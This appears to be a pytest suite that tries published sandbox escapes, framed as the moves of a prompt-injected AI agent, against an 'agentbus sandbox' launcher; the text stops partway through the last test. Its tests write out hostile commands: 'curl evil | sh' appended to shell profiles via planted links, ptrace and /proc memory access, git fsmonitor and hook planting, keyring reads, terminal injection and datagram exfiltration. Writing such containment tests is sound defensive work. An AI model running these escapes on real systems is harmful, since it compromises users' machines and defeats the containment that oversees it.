"""Published ways out of a sandbox, tried from inside ``agentbus sandbox``, by effect.

Each test is an attack a prompt-injected model in a hostile project would try:
it must fail and leave its canary as it was. Where it is safe, the same attack
also runs unconfined and succeeds, so the test would fail if the sandbox
stopped holding it. Every test runs under each mechanism here (Landlock,
bubblewrap) and, when the suite runs as root, also as the user ``nobody``.

The box lives outside /tmp (in /var/tmp): the sandbox puts a private directory
in place of /tmp, which would hide a home directory kept there.
"""

from __future__ import annotations

import errno
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_sandbox import (  # the throwaway home and the launcher, shared with the canary tests
    ABI,
    BASHRC,
    CAPABILITIES,
    MECHANISMS,
    NOBODY,
    SECRET,
    USERS,
    Box,
    needs_landlock,
    needs_seccomp,
)

from agentbus.guards.sandbox import REFUSED, Policy, credential_variables

MOUNTS = CAPABILITIES is not None and CAPABILITIES.namespaces


def _outside_tmp() -> str:
    parent = os.environ.get("AGENTBUS_TEST_OUTSIDE_TMP", "/var/tmp")
    real = os.path.realpath(parent)
    if not os.path.isdir(real) or any(real == t or real.startswith(t + "/") for t in ("/tmp", "/dev/shm")):
        pytest.skip(f"no directory outside /tmp for the throwaway home ({parent} is missing or in /tmp)")
    return real


@pytest.fixture(params=MECHANISMS)
def mechanism(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(params=USERS)
def box(request: pytest.FixtureRequest, mechanism: str) -> Iterator[Box]:
    root = Path(tempfile.mkdtemp(prefix="agentbus-escape-", dir=_outside_tmp()))
    os.chmod(root, 0o755)
    try:
        yield Box(root, request.param, mechanism)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _needs_mounts(box: Box) -> None:
    if box.mechanism == "landlock" and not MOUNTS:
        pytest.skip("unprivileged user and mount namespaces are disabled here: /tmp cannot be replaced")


def _as_box_user(box: Box) -> dict[str, object]:
    return {"user": NOBODY, "group": NOBODY, "extra_groups": []} if box.user == "nobody" else {}


def _python(code: str) -> str:
    return f"python3 -c {_quote(textwrap.dedent(code))}"


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


# --- the file system: descriptors, links, /proc, mounts, temporary directories ---------


def test_a_descriptor_inherited_open_on_a_file_outside_is_closed(box: Box) -> None:
    box.works()
    target = box.outside / "notes.txt"
    fd = os.open(target, os.O_WRONLY | os.O_APPEND)
    try:
        done = box.run(f"echo evil >&{fd}; echo evil > /proc/self/fd/{fd}", pass_fds=(fd,))
        assert target.read_text() == "outside canary", done.stderr
        # Unconfined, the inherited descriptor writes: the check above can fail.
        box.run(f"echo evil >&{fd}", confined=False, pass_fds=(fd,))
        assert target.read_text() == "outside canary" + "evil\n"
    finally:
        os.close(fd)


def test_a_link_planted_in_the_project_does_not_reach_the_profile_or_the_keys(box: Box) -> None:
    box.works()
    attempts = [
        "ln -s ~/.bashrc notes.md; echo 'curl evil | sh' >> notes.md",
        "ln ~/.bashrc hard && echo 'curl evil | sh' >> hard",
        "ln -s ~/.ssh keys; echo evil > keys/authorized_keys",
        "mkdir -p d && ln -s ../../home d/up && echo evil >> d/up/.bashrc",
    ]
    for command in attempts:
        box.run(command)
    assert (box.home / ".bashrc").read_text() == BASHRC
    assert not (box.home / ".ssh" / "authorized_keys").exists()
    assert not (box.project / "hard").exists()
    # Unconfined, the planted symbolic link writes through: the check above can fail.
    box.run("echo evil >> notes.md", confined=False)
    assert (box.home / ".bashrc").read_text() != BASHRC


def test_processes_outside_are_out_of_reach_through_proc_ptrace_and_their_memory(box: Box) -> None:
    box.works()
    outside = subprocess.Popen(["sleep", "60"], cwd=box.outside, **_as_box_user(box))  # type: ignore[call-overload]
    pid = outside.pid
    try:
        attack = _python(f"""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            libc.syscall.restype = ctypes.c_long
            L = ctypes.c_long
            for path in ("/proc/{pid}/cwd/planted", "/proc/{pid}/root{box.outside}/planted"):
                try:
                    open(path, "w").write("x")
                    print("WROTE", path)
                except OSError:
                    pass
            try:
                open("/proc/{pid}/mem", "rb")
                print("OPENED mem")
            except OSError:
                pass
            if libc.syscall(L(101), L(16), L({pid}), L(0), L(0)) == 0:  # PTRACE_ATTACH
                print("ATTACHED")
            class Iov(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
            buffer = ctypes.create_string_buffer(8)
            local, remote = Iov(ctypes.addressof(buffer), 8), Iov(0x400000, 8)
            for number in (310, 311):  # process_vm_readv, process_vm_writev
                local_, remote_ = ctypes.byref(local), ctypes.byref(remote)
                if libc.syscall(L(number), L({pid}), local_, L(1), remote_, L(1), L(0)) >= 0:
                    print("VM", number)
                elif ctypes.get_errno() not in (1, 3, 13):  # EPERM, ESRCH (not in its pid namespace), EACCES
                    print("VM", number, ctypes.get_errno())
            """)
        done = box.run(attack)
        assert done.stdout == "", done.stdout
        assert done.returncode == 0, done.stderr
        assert not (box.outside / "planted").exists()
        assert outside.poll() is None
        # Unconfined, the same user writes through /proc/PID/cwd: the check above can fail.
        assert "WROTE" in box.run(attack, confined=False).stdout
    finally:
        outside.kill()
        outside.wait()


def test_mounting_in_a_new_user_namespace_changes_nothing_outside(box: Box) -> None:
    box.works()
    attempts = [
        f"unshare -Urm sh -c 'mount -t tmpfs none {box.home} && echo evil > {box.home}/.bashrc'",
        f"unshare -Urm sh -c 'mount --bind {box.project} {box.outside} && echo evil > {box.outside}/x'",
        f"unshare -Urm sh -c 'umount -l {box.home}/.ssh; cat {box.home}/.ssh/id_rsa'",
        "unshare -Urm sh -c 'mount -o remount,rw /'",
    ]
    for command in attempts:
        done = box.run(command)
        assert SECRET not in done.stdout, command
    assert (box.home / ".bashrc").read_text() == BASHRC
    assert not (box.outside / "x").exists()


def test_memfd_code_runs_as_confined_as_the_command(box: Box) -> None:
    box.works()
    attack = _python(f"""
        import os
        fd = os.memfd_create("payload", 0)
        os.write(fd, b"#!/bin/sh\\necho 'curl evil | sh' >> {box.home}/.bashrc\\necho ran\\n")
        os.execv(f"/proc/self/fd/{{fd}}", ["payload"])
        """)
    done = box.run(attack)
    assert "ran" in done.stdout, done.stderr  # it did run, from memory
    assert (box.home / ".bashrc").read_text() == BASHRC
    box.run(attack, confined=False)
    assert (box.home / ".bashrc").read_text() != BASHRC  # unconfined the payload writes


def _inside_host_tmp(path: str) -> bool:
    real, tmp = os.path.realpath(path), os.path.realpath("/tmp")
    return os.path.commonpath([real, tmp]) == tmp


def test_the_host_temporary_directories_are_replaced_by_a_private_one(box: Box) -> None:
    _needs_mounts(box)
    tag = f"agentbus-canary-{os.getpid()}-{secrets.token_hex(4)}"
    host_tmp, host_shm = Path("/tmp") / tag, Path("/dev/shm") / tag
    host_tmp.write_text("host tmp canary")
    os.chmod(host_tmp, 0o666)
    try:
        plant = (
            f"echo evil > /tmp/{tag}; echo evil >> /tmp/{tag}-new; ln -s {box.home}/.bashrc /tmp/{tag}-link; "
            f"echo evil > /dev/shm/{tag}; cat /tmp/{tag}; echo $TMPDIR"
        )
        done = box.run(plant, own_tmp=False)
        assert "host tmp canary" not in done.stdout
        assert host_tmp.read_text() == "host tmp canary"
        for planted in (Path(f"/tmp/{tag}-new"), Path(f"/tmp/{tag}-link"), host_shm):
            assert not os.path.lexists(planted), planted
        # The project's next command finds what the last one left there.
        assert box.run(f"cat /tmp/{tag}-new", own_tmp=False).stdout == "evil\n"
        assert box.run("echo $AGENTBUS_SANDBOX", own_tmp=False).stdout.count("mount namespace") == (
            box.mechanism == "landlock"
        )
        # With --shared-tmp the host's /tmp is the command's: the checks above can fail. Where
        # agentbus itself lives in /tmp (a checkout there), the launcher refuses instead, since
        # a command could rewrite it and escape the next sandbox.
        shared = box.run(f"echo shared > /tmp/{tag}-new", "--shared-tmp", own_tmp=False)
        if _inside_host_tmp(box.launcher) or _inside_host_tmp(os.path.dirname(os.path.dirname(box.python))):
            assert shared.returncode == REFUSED, shared.stderr
            assert "is inside" in shared.stderr
            assert not os.path.lexists(f"/tmp/{tag}-new")
        else:
            assert Path(f"/tmp/{tag}-new").read_text() == "shared\n"
    finally:
        for path in (host_tmp, host_shm, Path(f"/tmp/{tag}-new"), Path(f"/tmp/{tag}-link")):
            if os.path.lexists(path):
                path.unlink()


_WITHOUT_NAMESPACES = """
import os, sys
from agentbus.guards import sandbox
args = sandbox.parse(sys.argv[1:])
policy = sandbox.policy_from_options(args)
found = sandbox.probe(try_namespaces=False)
capabilities = sandbox.Capabilities(
    "linux", landlock_abi=found.landlock_abi, namespaces=False, seccomp=found.seccomp
)
os.environ["AGENTBUS_SANDBOX"] = " + ".join(sandbox._confine_linux(policy, capabilities))
os.execvp(args.command[0], args.command)
"""


@needs_landlock
def test_without_namespaces_the_host_tmp_is_read_only_and_tmpdir_is_private() -> None:
    """Where user namespaces are restricted (Ubuntu 24.04), Landlock alone: nothing can stand
    in for /tmp, so /tmp is read-only and $TMPDIR is the private directory; the record says
    the auto-run files are not protected."""
    root = Path(tempfile.mkdtemp(prefix="agentbus-escape-", dir=_outside_tmp()))
    try:
        _without_namespaces(Box(root, "self", "landlock"))
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _without_namespaces(box: Box) -> None:
    (box.project / ".git" / "hooks").mkdir(parents=True)
    (box.project / ".git" / "config").write_text("")
    tag = f"agentbus-canary-{os.getpid()}-{secrets.token_hex(4)}"
    command = (
        f'echo evil > /tmp/{tag}; echo "$TMPDIR"; echo x > "$TMPDIR/f" && echo wrote; '
        'echo "$AGENTBUS_SANDBOX"'
    )
    argv = [sys.executable, "-c", _WITHOUT_NAMESPACES, "--project", str(box.project), "--no-scan"]
    done = subprocess.run(
        [*argv, "--", "bash", "-c", command], cwd=box.project, env=box.env(), capture_output=True, text=True
    )
    try:
        assert not Path(f"/tmp/{tag}").exists()
        tmpdir, wrote, confined_by = done.stdout.splitlines()
        assert tmpdir.startswith(f"{os.path.realpath(box.tmp)}/agentbus-sandbox-{os.geteuid()}/"), tmpdir
        assert wrote == "wrote"
        assert (Path(tmpdir) / "f").read_text() == "x\n"
        assert "mount namespace" not in confined_by.split(" + ")
        assert "auto-run files NOT read-only" in confined_by
    finally:
        Path(f"/tmp/{tag}").unlink(missing_ok=True)


AUTO_RUN = {
    ".git/config": "[core]\n\trepositoryformatversion = 0\n",
    ".git/hooks/README": "hooks\n",
    ".envrc": "export A=1\n",
    ".vscode/tasks.json": "{}\n",
}


def test_the_projects_auto_run_files_are_read_only(box: Box) -> None:
    _needs_mounts(box)
    for name, text in AUTO_RUN.items():
        path = box.project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (box.project / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    attack = (
        "printf '[core]\\n\\tfsmonitor = \"touch ~/pwned\"\\n\\thooksPath = ../hooks\\n' >> .git/config; "
        "echo 'touch ~/pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "mv .git .git-moved || rm -rf .git; "
        "echo 'touch ~/pwned' >> .envrc; echo '{\"tasks\": []}' > .vscode/tasks.json; "
        "echo fine > ordinary.txt"
    )
    if box.user == "nobody":
        for path in [box.project, *box.project.rglob("*")]:
            os.chown(path, NOBODY, NOBODY)
    box.run(attack)
    for name, text in AUTO_RUN.items():
        assert (box.project / name).read_text() == text, name
    for name in (".git/hooks/pre-commit", ".git-moved"):
        assert not (box.project / name).exists(), name
    assert (box.project / "ordinary.txt").read_text() == "fine\n"  # the rest of the project is writable
    # With --no-protect they are writable (the checks above can fail); --protect adds a path.
    (box.project / "Makefile").write_text("all:\n")
    box.run("echo '# changed' >> .envrc; echo x > Makefile", "--no-protect", "--protect", "Makefile")
    assert (box.project / ".envrc").read_text().endswith("# changed\n")
    assert (box.project / "Makefile").read_text() == "all:\n"


def _host_git(box: Box, *args: str) -> subprocess.CompletedProcess[str]:
    """The host's own git, unconfined, as the user's shell prompt runs it after the command."""
    identity = ["-c", "safe.directory=*", "-c", "user.email=me@example.com", "-c", "user.name=me"]
    return subprocess.run(
        ["git", *identity, *args], cwd=box.project, env=box.env(), capture_output=True, text=True, check=False
    )


def _to_box_user(box: Box) -> None:
    if box.user == "nobody":
        for path in [box.project, *box.project.rglob("*")]:
            os.chown(path, NOBODY, NOBODY, follow_symlinks=False)


GIT_ATTACKS = [
    "printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n' >> .git/config",
    "git config core.fsmonitor 'touch {pwned}'",
    "git config core.hooksPath .evil-hooks",
    "cp .git/config c && printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n' >> c && mv -f c .git/config",
    "printf '#!/bin/sh\\ntouch {pwned}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "printf '#!/bin/sh\\ntouch {pwned}\\n' > .git/hooks/x && chmod +x .git/hooks/x"
    " && mv .git/hooks/x .git/hooks/post-commit",
    "rm -rf .git/hooks; mkdir -p .git/hooks",
    "mv .git .git2 && git init -q && git config core.fsmonitor 'touch {pwned}'",
    "rm -rf .git; git init -q && git config core.fsmonitor 'touch {pwned}'",
]


def test_git_commits_in_the_sandbox_and_the_hosts_git_stays_harmless(box: Box) -> None:
    """``.git`` is writable but for what makes git run a program (config, hooks): a
    confined ``git commit`` works, and after every attack on those parts the host's own
    ``git status`` and ``git commit`` run no planted program."""
    _needs_mounts(box)
    _host_git(box, "init", "-q")
    (box.project / "a.txt").write_text("a\n")
    _host_git(box, "add", "a.txt")
    _host_git(box, "commit", "-q", "-m", "first")
    _to_box_user(box)
    identity = "git -c user.email=a@example.com -c user.name=a"
    done = box.run(f"echo b > b.txt && git add b.txt && {identity} commit -q -m second && git log --oneline")
    assert done.returncode == 0, done.stderr
    assert _host_git(box, "log", "--format=%s").stdout.split() == ["second", "first"]
    pwned = box.outside / "pwned"
    for attack in GIT_ATTACKS[:-2]:
        box.run(attack.format(pwned=pwned))
    for name in (".git2", ".evil-hooks", ".git/hooks/pre-commit", ".git/hooks/x", ".git/hooks/post-commit"):
        assert not (box.project / name).exists(), name
    assert "fsmonitor" not in (box.project / ".git" / "config").read_text()
    _host_git(box, "status")
    _host_git(box, "commit", "-q", "--allow-empty", "-m", "third")  # runs pre-commit and post-commit
    assert _host_git(box, "log", "--format=%s").stdout.split() == ["third", "second", "first"]
    assert not pwned.exists()
    # A submodule entry staged beside a new repository with a core.fsmonitor: held only with
    # --protect .git/index (which stops commits too); the docs' Limits say so.
    staged = (
        "git init -q sub && git -C sub -c user.email=a@b -c user.name=a commit -q --allow-empty -m s"
        f" && git -C sub config core.fsmonitor 'touch {pwned}'"
        " && git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub"
    )
    box.run(staged, "--protect", ".git/index")
    _host_git(box, "status")
    assert not pwned.exists()
    shutil.rmtree(box.project / "sub", ignore_errors=True)
    for attack in GIT_ATTACKS[-2:]:  # the whole of .git moved aside or removed, a new one made
        box.run(attack.format(pwned=pwned))
    assert not (box.project / ".git2").exists()
    assert "fsmonitor" not in (box.project / ".git" / "config").read_text()
    _host_git(box, "status")
    assert not pwned.exists()
    # With --no-protect the same attack plants a program the host's git runs: the checks above can fail.
    _host_git(box, "init", "-q")  # what the removal above left: a repository again
    _to_box_user(box)
    box.run(GIT_ATTACKS[0].format(pwned=pwned), "--no-protect")
    status = _host_git(box, "status")
    assert pwned.exists(), status.stderr


def test_with_all_of_git_protected_a_new_commondir_or_a_staged_submodule_is_held(box: Box) -> None:
    """``--protect .git``: what git reads but does not exist yet (a ``commondir`` that moves the
    config elsewhere, a submodule entry in the index beside a repository with a ``core.fsmonitor``)
    cannot be created, at the price of commits inside. By default (commits work) the first is not
    held: the docs' Limits say so, and the check below can fail."""
    _needs_mounts(box)
    _host_git(box, "init", "-q")
    _host_git(box, "commit", "-q", "--allow-empty", "-m", "first")
    _to_box_user(box)
    pwned = box.outside / "pwned"
    commondir = (
        "mkdir -p evil && cp -r .git/. evil/"
        f" && printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n' >> evil/config"
        ' && echo "$PWD/evil" > .git/commondir'
    )
    staged = (
        "git init -q sub && git -C sub -c user.email=a@b -c user.name=a commit -q --allow-empty -m s"
        f" && git -C sub config core.fsmonitor 'touch {pwned}'"
        " && git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub"
    )
    for attack in (commondir, staged):
        box.run(attack, "--protect", ".git")
        assert not (box.project / ".git" / "commondir").exists()
        _host_git(box, "status")
        assert not pwned.exists(), attack
        for planted in ("evil", "sub"):
            shutil.rmtree(box.project / planted, ignore_errors=True)
    committed = box.run(
        "git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x", "--protect", ".git"
    )
    assert committed.returncode != 0  # the price: no commits inside
    assert box.run("git log --oneline && git status --short", "--protect", ".git").returncode == 0
    box.run(commondir)
    _host_git(box, "status")
    assert pwned.exists()


def test_the_protected_parts_of_a_git_directory(tmp_path: Path) -> None:
    """``.git`` stands for the parts that make git run a program, in it and in the git
    directories of its worktrees and submodules (a submodule named a/b included); the
    directories that hold them are pinned (mounted over themselves), outermost first."""
    from agentbus.guards.sandbox import pinned_directories, protected_paths

    project = tmp_path / "p"
    git = project / ".git"
    for gitdir in (git, git / "worktrees" / "w", git / "modules" / "a" / "b"):
        (gitdir / "hooks").mkdir(parents=True)
        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
        (gitdir / "config").write_text("")
    (git / "objects").mkdir()
    (git / "worktrees" / "w" / "commondir").write_text("../..\n")
    (project / ".envrc").write_text("")
    real = os.path.realpath(project)
    protected = protected_paths(real, [".git", ".envrc", ".vscode"])
    names = sorted(os.path.relpath(path, real) for path in protected)
    assert names == [
        ".envrc",
        ".git/config",
        ".git/hooks",
        ".git/modules/a/b/config",
        ".git/modules/a/b/hooks",
        ".git/worktrees/w/commondir",
        ".git/worktrees/w/config",
        ".git/worktrees/w/hooks",
    ]
    (git / "modules" / "a" / "c").mkdir()  # a submodule's git directory without hooks: whole
    (git / "modules" / "a" / "c" / "HEAD").write_text("ref: refs/heads/main\n")
    protected = protected_paths(real, [".git", ".envrc", ".vscode"])
    names.append(".git/modules/a/c")
    assert sorted(os.path.relpath(path, real) for path in protected) == sorted(names)
    (git / "hooks").rmdir()  # the repository's own: all of .git is read-only, as before
    assert protected_paths(real, [".git"]) == (os.path.join(real, ".git"),)
    (git / "hooks").mkdir()
    protected = protected_paths(real, [".git"])
    pinned = [os.path.relpath(path, real) for path in pinned_directories(real, protected)]
    assert pinned[0] == ".git"
    assert sorted(pinned) == [
        ".git",
        ".git/modules",
        ".git/modules/a",
        ".git/modules/a/b",
        ".git/worktrees",
        ".git/worktrees/w",
    ]


# --- secrets: the environment and the kernel's keyrings ---------------------------------


CREDENTIALS = {
    "AWS_SECRET_ACCESS_KEY": "canary-aws",
    "AWS_SESSION_TOKEN": "canary-session",
    "GITHUB_TOKEN": "canary-github",
    "OPENAI_API_KEY": "canary-openai",
    "ANTHROPIC_API_KEY": "canary-anthropic",
    "PGPASSWORD": "canary-pg",
    "SSH_AUTH_SOCK": "/tmp/canary-agent.sock",
    "NPM_TOKEN": "canary-npm",
    "DOCKER_AUTH_CONFIG": "canary-docker",
}
ORDINARY = {"TOKENIZERS_PARALLELISM": "false", "KEYBOARD": "us", "EDITOR": "vi", "XAUTHORITY": "/x"}


def test_credential_variables_are_removed_unless_kept(box: Box) -> None:
    env = {**CREDENTIALS, **ORDINARY}
    done = box.run("env", env=env)
    assert done.returncode == 0, done.stderr
    assert "canary" not in done.stdout
    for name, value in ORDINARY.items():
        assert f"{name}={value}\n" in done.stdout
    kept = box.run("env", "--keep-env", "GITHUB_TOKEN", env=env).stdout
    assert "GITHUB_TOKEN=canary-github\n" in kept
    assert "canary-aws" not in kept
    assert "canary-github" in box.run("env", confined=False, env=env).stdout


def test_the_credential_names_are_told_by_their_words() -> None:
    names = [*CREDENTIALS, *ORDINARY, "PWD", "OLDPWD", "PATH", "HOME", "SSH_CONNECTION", "MY_PRIVATE_KEY"]
    assert sorted(credential_variables(names)) == sorted([*CREDENTIALS, "MY_PRIVATE_KEY"])
    assert credential_variables(names, keep=[*CREDENTIALS]) == ["MY_PRIVATE_KEY"]


_KEYRING = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
L = ctypes.c_long
libc.syscall(L(250), L(1), None)  # KEYCTL_JOIN_SESSION_KEYRING: a new one, for this test
serial = libc.syscall(L(248), b"user", b"agentbus-canary", b"KEYRING-SECRET", L(14), L(-3))
assert serial > 0, ctypes.get_errno()
os.environ["CANARY_SERIAL"] = str(serial)
os.execvp(sys.argv[1], sys.argv[1:])
"""
_READ_KEY = _python("""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    buffer = ctypes.create_string_buffer(64)
    serial = ctypes.c_long(int(os.environ["CANARY_SERIAL"]))
    size = libc.syscall(ctypes.c_long(250), ctypes.c_long(11), serial, buffer, ctypes.c_long(64))
    print(buffer.value.decode() if size > 0 else f"errno {ctypes.get_errno()}")
    """)


@needs_seccomp
def test_the_session_keyring_is_out_of_reach(box: Box) -> None:
    if shutil.which("python3") is None:
        pytest.skip("no python3 on PATH")
    prefix = ("python3", "-c", _KEYRING)
    done = box.run(_READ_KEY, prefix=prefix)
    assert "KEYRING-SECRET" not in done.stdout
    assert done.stdout.strip() == f"errno {errno.ENOSYS}", done.stderr
    # Unconfined the session keyring gives the secret up: the check above can fail.
    assert box.run(_READ_KEY, prefix=prefix, confined=False).stdout.strip() == "KEYRING-SECRET"


# --- the kernel's other doors -----------------------------------------------------------


@needs_seccomp
def test_bpf_userfaultfd_and_io_uring_are_unavailable(box: Box) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("the probe below uses x86_64 system call numbers")
    probe = _python("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        for name, number in (("bpf", 321), ("userfaultfd", 323), ("io_uring_setup", 425)):
            params = ctypes.create_string_buffer(120)
            result = libc.syscall(ctypes.c_long(number), ctypes.c_long(0), params, ctypes.c_long(8))
            print(name, "ENOSYS" if result < 0 and ctypes.get_errno() == 38 else "reached the kernel")
        """)
    done = box.run(probe)
    assert done.stdout.split("\n")[:3] == ["bpf ENOSYS", "userfaultfd ENOSYS", "io_uring_setup ENOSYS"]
    assert "reached the kernel" in box.run(probe, confined=False).stdout


@needs_seccomp
def test_nothing_can_be_typed_into_the_terminal(box: Box) -> None:
    inject = _python("""
        import fcntl, termios
        try:
            fcntl.ioctl(0, termios.TIOCSTI, b"x")
            print("INJECTED")
        except OSError as exc:
            print(exc.errno)
        """)
    controller, terminal = os.openpty()
    try:
        if box.user == "nobody":
            os.chown(os.ttyname(terminal), NOBODY, NOBODY)
        done = box.run(inject, stdin=terminal)
        assert done.stdout.strip() == str(errno.EPERM), done.stderr
        unconfined = box.run(inject, confined=False, stdin=terminal).stdout.strip()
        if unconfined != "INJECTED":
            pytest.skip(
                f"TIOCSTI is refused to this user even unconfined (errno {unconfined}): nothing to hold"
            )
    finally:
        os.close(controller)
        os.close(terminal)


# --- the network ------------------------------------------------------------------------


_SOCKETS = _python("""
    import socket
    for family, kind, protocol, name in (
        (socket.AF_INET, socket.SOCK_DGRAM, 0, "udp"),
        (socket.AF_INET6, socket.SOCK_DGRAM, 0, "udp6"),
        (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, "icmp"),
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw"),
        (socket.AF_PACKET, socket.SOCK_RAW, 0, "packet"),
        (socket.AF_NETLINK, socket.SOCK_RAW, 0, "netlink"),
        (40, socket.SOCK_STREAM, 0, "vsock"),
        (socket.AF_UNIX, socket.SOCK_STREAM, 0, "unix"),
        (socket.AF_INET, socket.SOCK_STREAM, 0, "tcp"),
    ):
        try:
            socket.socket(family, kind, protocol).close()
            print(name)
        except OSError:
            pass
    """)


@needs_seccomp
def test_no_socket_of_any_family_opens_when_the_network_is_off(box: Box) -> None:
    done = box.run(_SOCKETS)
    assert done.returncode == 0, done.stderr
    opened = set(done.stdout.split())
    if box.mechanism == "bubblewrap":  # its network namespace has only its own loopback
        assert opened <= {"udp", "udp6", "netlink", "tcp"}
    else:
        assert opened == set()
    assert "udp" in box.run(_SOCKETS, confined=False).stdout.split()


def test_a_datagram_to_a_local_server_does_not_arrive_when_the_network_is_off(box: Box) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(2)
    port = server.getsockname()[1]
    send = _python(f"""
        import socket
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrated", ("127.0.0.1", {port}))
        except OSError:
            pass
        """)
    try:
        for network in ("off", *(("loopback",) if MOUNTS else ())):
            box.run(send, "--network", network)
        box.run(send, confined=False)  # the one that arrives: the check can fail
        assert server.recvfrom(100)[0] == b"exfiltrated"
        server.settimeout(0.5)
        with pytest.raises(TimeoutError):
            server.recvfrom(100)
    finally:
        server.close()


class UnixServer:
    """A unix socket server outside the project, and one in the abstract namespace."""

    def __init__(self, directory: Path, owner: int | None) -> None:
        self.path = directory / f"daemon-{os.getpid()}.sock"
        self.abstract = f"\0agentbus-canary-{os.getpid()}-{secrets.token_hex(4)}"
        self.sockets = []
        for address in (str(self.path), self.abstract):
            server = socket.socket(socket.AF_UNIX)
            server.bind(address)
            server.listen()
            server.settimeout(0.2)
            self.sockets.append(server)
        if owner is not None:
            os.chown(self.path, owner, owner)
        self.accepted = 0
        self.stopped = threading.Event()
        self.threads = [threading.Thread(target=self._serve, args=(s,), daemon=True) for s in self.sockets]
        for thread in self.threads:
            thread.start()

    def _serve(self, server: socket.socket) -> None:
        while not self.stopped.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self.stopped.set()
        for thread in self.threads:
            thread.join()
        for server in self.sockets:
            server.close()


def _connect_unix(address: str) -> str:
    return _python(f"""
        import socket
        try:
            socket.socket(socket.AF_UNIX).connect({address!r})
            print("CONNECTED")
        except OSError as exc:
            print(exc.errno)
        """)


def test_unix_sockets_outside_are_out_of_reach(box: Box) -> None:
    server = UnixServer(box.outside, NOBODY if box.user == "nobody" else None)
    try:
        for address in (str(server.path), server.abstract):
            assert "CONNECTED" not in box.run(_connect_unix(address)).stdout, address
        # The abstract namespace stays out of reach with unix sockets allowed (Landlock ABI 6
        # scopes it; bubblewrap's network namespace has its own).
        if box.mechanism == "landlock" and ABI < 6:
            pytest.skip(f"abstract unix sockets are scoped from Landlock ABI 6; this kernel has {ABI}")
        done = box.run(_connect_unix(server.abstract), "--unix-sockets")
        assert "CONNECTED" not in done.stdout
        assert server.accepted == 0
        # Unconfined it connects: the checks above can fail.
        assert box.run(_connect_unix(server.abstract), confined=False).stdout.strip() == "CONNECTED"
    finally:
        server.close()


def test_with_unix_sockets_allowed_the_daemons_sockets_are_hidden(box: Box) -> None:
    _needs_mounts(box)
    runtime = box.outside / "run"
    runtime.mkdir()
    owner = NOBODY if box.user == "nobody" else None
    agent, bus = UnixServer(box.outside, owner), UnixServer(runtime, owner)
    other = UnixServer(box.root, owner)
    if owner is not None:
        os.chown(runtime, NOBODY, NOBODY)
    env = {"SSH_AUTH_SOCK": str(agent.path), "XDG_RUNTIME_DIR": str(runtime)}
    try:
        for server in (agent, bus):
            done = box.run(_connect_unix(str(server.path)), "--unix-sockets", env=env)
            assert "CONNECTED" not in done.stdout, (server.path, done.stderr)
        assert agent.accepted == bus.accepted == 0
        # A socket the launcher does not know of is reachable (Landlock before the kernel's
        # unix socket rules cannot tell sockets apart): the README's Limits say so.
        done = box.run(_connect_unix(str(other.path)), "--unix-sockets", env=env)
        assert done.stdout.strip() == "CONNECTED", done.stderr
    finally:
        for server in (agent, bus, other):
            server.close()


# --- the launcher itself ----------------------------------------------------------------


def test_the_launcher_ignores_python_variables_and_takes_options_only_before_the_separator(
    box: Box,
) -> None:
    canary = box.outside / "python-ran"
    (box.project / "sitecustomize.py").write_text(f"open({str(canary)!r}, 'w').write('x')\n")
    (box.project / "startup.py").write_text(f"open({str(canary)!r}, 'w').write('x')\n")
    if box.user == "nobody":
        for name in ("sitecustomize.py", "startup.py"):
            os.chown(box.project / name, NOBODY, NOBODY)
    hostile = {
        "PYTHONPATH": str(box.project),
        "PYTHONSTARTUP": str(box.project / "startup.py"),
        "PYTHONHOME": str(box.project),
        "PYTHONINSPECT": "1",
    }
    done = box.run("echo fine", env=hostile)
    assert (done.returncode, done.stdout) == (0, "fine\n"), done.stderr
    assert not canary.exists()
    # A command that looks like the launcher's options is the command.
    argv = [box.python, "-I", box.launcher, "--project", str(box.project), *box.scan, "--"]
    for command in (["--write=/", "touch", str(box.outside / "x")], ["--", "--network=on", "true"]):
        ran = subprocess.run(
            [*argv, *command], cwd=box.project, env=box.env(), capture_output=True, **_as_box_user(box)
        )  # type: ignore[call-overload]
        assert ran.returncode in (126, 127) or (box.mechanism == "bubblewrap" and ran.returncode == 1), (
            ran.stderr
        )
    assert not (box.outside / "x").exists()
    # Unconfined, the variables load the project's code: the check above can fail.
    box.run("python3 -c pass", confined=False, env={"PYTHONPATH": str(box.project)})
    assert canary.exists()


def test_a_command_too_long_for_the_kernel_runs_nowhere(box: Box) -> None:
    """A single argument past the kernel's limit (128 KiB): the launcher's exec fails, or
    the launcher does not start; the command runs neither confined nor unconfined."""
    huge = f"touch {box.outside}/ran # " + "x" * 300_000
    try:
        returncode = box.run(huge).returncode
